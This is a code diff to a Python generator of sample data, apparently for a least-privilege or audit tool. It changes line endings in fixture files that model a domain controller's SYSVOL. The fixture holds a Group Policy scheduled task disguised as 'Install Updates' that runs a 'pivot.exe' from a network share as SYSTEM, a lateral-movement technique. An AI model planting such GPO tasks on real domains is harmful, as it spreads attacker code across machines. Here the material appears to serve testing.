@@ -435,9 +435,11 @@ DEMO_GPO = "{5C2B7A1E-9D43-4F6B-8E21-3A7D0C9B6E54}"
 def sysvol_files():
     """dc01's SYSVOL: one GPO whose preferences push an immediate SYSTEM task (docs/least-privilege.md)."""
     base = os.path.join("samples", "dc01", "Windows", "SYSVOL", "domain", "Policies", DEMO_GPO)
-    gpt = "[General]\r\nVersion=65537\r\ndisplayName=Server Maintenance\r\n".encode("ascii")
+    # LF line ends: ansible-test's line-endings check refuses CRLF text in the
+    # repository. Real SYSVOL files use CRLF; the GPO parser reads both.
+    gpt = "[General]\nVersion=65537\ndisplayName=Server Maintenance\n".encode("ascii")
     xml = (
-        '<?xml version="1.0" encoding="utf-8"?>\r\n'
+        '<?xml version="1.0" encoding="utf-8"?>\n'
         '<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118DBCC}">'
         '<ImmediateTaskV2 clsid="{9756B581-76EC-4169-9AFC-0CA8D43ADB5F}" name="Install Updates" image="0" '
         'changed="2026-11-30 02:14:09" uid="{6F2C5A10-3B7D-4E8A-9C41-0D5E7B2A9F13}" userContext="0" removePolicy="0">'
@@ -451,7 +453,7 @@ def sysvol_files():
         '<EndBoundary>%LocalTimeXmlEx%</EndBoundary><Enabled>true</Enabled></TimeTrigger></Triggers>'
         '<Actions Context="Author"><Exec><Command>cmd.exe</Command>'
         '<Arguments>/c \\\\fs02.corp.contoso.example\\software$\\pivot.exe</Arguments></Exec></Actions>'
-        '</Task></Properties></ImmediateTaskV2></ScheduledTasks>\r\n').encode("utf-8")
+        '</Task></Properties></ImmediateTaskV2></ScheduledTasks>\n').encode("utf-8")
     return {os.path.join(base, "GPT.INI"): gpt,
             os.path.join(base, "Machine", "Preferences", "ScheduledTasks", "ScheduledTasks.xml"): xml}
 
